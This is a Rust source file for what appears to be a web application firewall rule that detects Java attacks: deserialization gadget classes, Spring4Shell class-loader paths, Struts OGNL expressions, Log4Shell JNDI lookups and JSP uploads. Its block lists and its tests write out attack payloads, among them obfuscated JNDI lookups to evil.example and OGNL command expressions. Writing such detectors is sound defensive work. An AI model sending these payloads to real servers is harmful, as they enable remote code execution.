//! Family 944: attacks on Java back ends: class names that only an
//! expression-language or deserialization exploit would send, gadget
//! chains, JNDI lookups (Log4Shell), JSP uploads and serialized objects.

use super::Value;
use crate::request::{Location, Request};
use crate::score::{Finding, Severity, fragment};

/// Packages whose classes an attacker names to run code or read files.
/// Matched as `package.` followed by a name, in folded values.
const PACKAGES: &[&str] = &[
    "java.lang.",
    "java.io.",
    "java.net.",
    "java.nio.",
    "java.util.",
    "java.rmi.",
    "java.beans.",
    "java.security.",
    "java.sql.",
    "javax.",
    "jdk.",
    "sun.",
    "com.sun.",
    "org.apache.commons",
    "org.apache.xalan",
    "org.apache.xbean",
    "org.springframework",
    "com.opensymphony",
    "org.omg.",
    "org.codehaus.groovy",
    "groovy.lang",
    "bsh.",
    "org.hibernate",
    "com.mchange",
    "org.mozilla.javascript",
    "clojure.",
    "net.sf.json",
    "com.alibaba.fastjson",
    "org.python",
    "ognl.",
];

/// Classes and factories of deserialization gadget chains, and the calls
/// that run a process.
const GADGETS: &[&str] = &[
    "processbuilder",
    "getruntime",
    "runtime.exec",
    "invokertransformer",
    "chainedtransformer",
    "constanttransformer",
    "instantiatetransformer",
    "clonetransformer",
    "forclosure",
    "whileclosure",
    "instantiatefactory",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "templatesimpl",
    "jdbcrowsetimpl",
    "objectinputstream",
    "scriptenginemanager",
];

/// Property paths that reach a class loader through data binding
/// (Spring4Shell, CVE-2022-22965, and the Struts `class.classLoader` bugs
/// before it), in folded form.
const CLASS_LOADER_PATHS: &[&str] = &[
    "class.module.classloader",
    "class.classloader",
    "class[classloader]",
    "class['classloader']",
    "class[\"classloader\"]",
    "class.protectiondomain",
];

static CLASS_LOADER_WORDS: super::Needles = super::Needles::new(CLASS_LOADER_PATHS);
static PACKAGE_WORDS: super::Needles = super::Needles::new(PACKAGES);
static GADGET_WORDS: super::Needles = super::Needles::new(GADGETS);
static JNDI_WORDS: super::Needles = super::Needles::new(JNDI);

/// JNDI protocols a Log4Shell-style lookup reaches out with.
const JNDI: &[&str] = &[
    "jndi:ldap",
    "jndi:ldaps",
    "jndi:rmi",
    "jndi:dns",
    "jndi:iiop",
    "jndi:corba",
    "jndi:nds",
    "jndi:http",
    "jndi:nis",
];

fn finding(check: &'static str, v: &Value<'_>, what: &str) -> Finding {
    Finding {
        family: 944,
        check,
        paranoia: 1,
        severity: Severity::Critical,
        location: v.field.location.owned(),
        fragment: fragment(what),
    }
}

/// Undoes Log4j's own lookups that attackers nest to hide `jndi`:
/// `${lower:J}` → `j`, `${::-n}` → `n`, `${env:X:-d}` → `d`.
fn log4j_unnest(s: &str) -> String {
    let mut out = s.to_owned();
    for _ in 0..8 {
        let Some(start) = out.rfind("${") else { break };
        let Some(len) = out[start..].find('}') else { break };
        let inner = &out[start + 2..start + len];
        let replacement = if let Some((_, default)) = inner.split_once(":-") {
            default.to_owned()
        } else if let Some((lookup, arg)) = inner.split_once(':') {
            if matches!(lookup, "lower" | "upper" | "date" | "env" | "sys" | "main" | "") {
                arg.to_owned()
            } else {
                // A real lookup such as `jndi:` stays visible.
                format!("\u{1}{inner}\u{2}")
            }
        } else {
            inner.to_owned()
        };
        out.replace_range(start..start + len + 1, &replacement);
    }
    out
}

/// An OGNL expression as Struts evaluates it (CVE-2017-5638 and its
/// kin): `%{…}` or `${…}` that assigns or reads `#` variables
/// (`(#cmd='id')`, `#_memberAccess`) or calls static members (`@Class@m`).
fn ognl_expression(folded: &str) -> bool {
    ["%{", "${"].iter().any(|open| {
        folded.match_indices(open).any(|(at, _)| {
            let inner = folded[at + 2..].split('}').next().unwrap_or_default();
            let inner = inner.trim_start_matches([' ', '(']);
            let variable = inner.starts_with('#') || inner.contains("(#") || inner.contains(".(#");
            let static_call = inner.match_indices('@').any(|(i, _)| {
                let after = &inner[i + 1..];
                let name_len = after.find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_')).unwrap_or(0);
                name_len > 0 && after[name_len..].starts_with('@')
            });
            variable || static_call
        })
    })
}

/// A JSP file name as a server would resolve it: whitespace around the
/// dot and trailing dots and spaces (which Windows drops) do not count.
fn is_jsp(file_name: &str) -> bool {
    let name: String = file_name.chars().filter(|c| !c.is_whitespace()).collect::<String>().to_ascii_lowercase();
    let name = name.trim_end_matches('.');
    name.ends_with(".jsp") || name.ends_with(".jspx")
}

pub fn check(request: &Request, values: &[Value<'_>], out: &mut Vec<Finding>) {
    for v in values {
        if matches!(v.field.location, Location::Method) {
            continue;
        }
        let folded = &v.folded;
        if let Some(p) = PACKAGE_WORDS.first_where(folded, |p, at| {
            // A name, not a word in prose: the package starts a token.
            let before = folded[..at].chars().next_back();
            let after = folded[at + p.len()..].chars().next();
            let name_follows = if p.ends_with('.') {
                after.is_some_and(|c| c.is_ascii_alphabetic())
            } else {
                after.is_none_or(|c| !c.is_ascii_alphanumeric())
            };
            before.is_none_or(|c| !c.is_ascii_alphanumeric()) && name_follows
        }) {
            out.push(finding("java-class-name", v, p));
        } else if let Some(raw) = v.forms.last().filter(|f| f.contains("java.")) {
            // `java.Runtime`: a class right after the root package.
            if raw.match_indices("java.").any(|(at, _)| raw[at + 5..].chars().next().is_some_and(char::is_uppercase)) {
                out.push(finding("java-class-name", v, "java."));
            }
        }
        if let Some(g) = GADGET_WORDS.first_in(folded) {
            out.push(finding("java-gadget", v, g));
        }
        if let Some(path) = CLASS_LOADER_WORDS.first_in(folded) {
            out.push(finding("java-class-loader", v, path));
        }
        if ognl_expression(folded) {
            out.push(finding("java-ognl", v, folded));
        }
        // Lookups need `${`; without one there is nothing to unnest.
        let unnested = if folded.contains("${") { log4j_unnest(folded) } else { folded.clone() };
        if let Some(j) = JNDI_WORDS.first_in(&unnested) {
            out.push(finding("java-jndi-lookup", v, j));
        }
        if folded.contains("rO0AB".to_ascii_lowercase().as_str()) && v.forms.iter().any(|f| f.contains("rO0AB"))
            || v.field.value.starts_with("\u{FFFD}\u{FFFD}\0\u{5}")
        {
            out.push(finding("java-serialized-object", v, "rO0AB"));
        }
    }
    // A JSP uploaded (by file-name header or multipart file name): code the
    // server would run.
    for (location, file_name) in super::uploaded_file_names(request) {
        if is_jsp(file_name) {
            out.push(Finding {
                family: 944,
                check: "java-jsp-upload",
                paranoia: 1,
                severity: Severity::Critical,
                location,
                fragment: fragment(file_name),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::log4j_unnest;
    use crate::Request;
    use crate::score::inspect;

    fn blocked_form(body: &str) -> bool {
        let headers = vec![("Content-Type", "application/x-www-form-urlencoded")];
        inspect(&Request::from_parts("POST", "/", headers, body.as_bytes()), 1, 5).blocked
    }

    #[test]
    fn java_exploit_material_is_caught() {
        for attack in [
            "q=java.lang.Runtime",
            "java.io.FileInputStream=x",
            "q=java.Runtime",
            "q=com.opensymphony.xwork2.ActionContext",
            "q=ProcessBuilder",
            "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            "q=${${lower:j}${::-n}di:rmi://evil.example/a}",
            // OGNL, as the Struts exploits send it.
            "q=%25%7B(%23_%3D'multipart%2Fform-data').(%23cmd%3D'id')%7D",
            "q=%25%7B%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%7D",
            "q=${@java.lang.Runtime@getRuntime()}",
            // Spring4Shell's data binding to the class loader.
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "q=class%5B'classLoader'%5D",
        ] {
            assert!(blocked_form(attack), "{attack}");
        }
        // Detection runs on folded (lower-case) text, where `${lower:j}` is `j`.
        assert!(log4j_unnest("${${lower:j}${::-n}di:x}").contains("jndi:x"));
    }

    #[test]
    fn coffee_talk_passes() {
        for benign in
            ["q=java beans", "q=Java. Coffee from Java.", "q=sun. moon", "q=indonesian+java+arabica", "q=www.java.com"]
        {
            assert!(!blocked_form(benign), "{benign}");
        }
    }
}
